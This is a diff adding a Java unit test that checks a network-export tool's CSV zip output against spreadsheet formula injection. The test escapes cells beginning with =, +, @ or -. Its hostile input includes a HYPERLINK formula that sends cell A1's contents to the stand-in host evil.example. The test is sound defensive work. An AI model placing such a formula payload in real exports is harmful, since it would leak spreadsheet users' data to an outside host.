@@ -49,6 +49,27 @@ class NetworkExportsTests {
 			.contains("<data key=\"sources\">d1;d2</data>");
 	}
 
+	@Test
+	void neutralisesFormulaLeadingNamesInTheCsvZip() throws Exception {
+		ExportModel hostile = new ExportModel("people",
+				List.of(new ExportNode(new NodeView("=cmd", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")", 1,
+						1.0, 0.0, 1.0, 0), List.of(2024), List.of("@doc")),
+						new ExportNode(new NodeView("b", "+33 Bob", 1, 1.0, 0.0, 1.0, 0), List.of(2024), List.of("d"))),
+				List.of(new ExportEdge(new EdgeView("=cmd", "b", 1.0), List.of(2024), List.of("-d"))));
+		java.util.Map<String, String> files = new java.util.HashMap<>();
+		try (java.util.zip.ZipInputStream zip = new java.util.zip.ZipInputStream(
+				new ByteArrayInputStream(NetworkExports.csvZip(hostile)))) {
+			for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
+				files.put(entry.getName(), new String(zip.readAllBytes(), java.nio.charset.StandardCharsets.UTF_8));
+			}
+		}
+		assertThat(files.get("nodes.csv").lines().toList()).element(1)
+			.isEqualTo(
+					"'=cmd,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Cliquez\"\")\",1,1.0,0.0,1.0,0,2024,'@doc");
+		assertThat(files.get("nodes.csv").lines().toList()).element(2).asString().startsWith("b,'+33 Bob,");
+		assertThat(files.get("edges.csv").lines().toList()).element(1).isEqualTo("'=cmd,b,1.0,2024,'-d");
+	}
+
 	private static Document parse(byte[] xml) throws Exception {
 		DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
 		factory.setNamespaceAware(true);
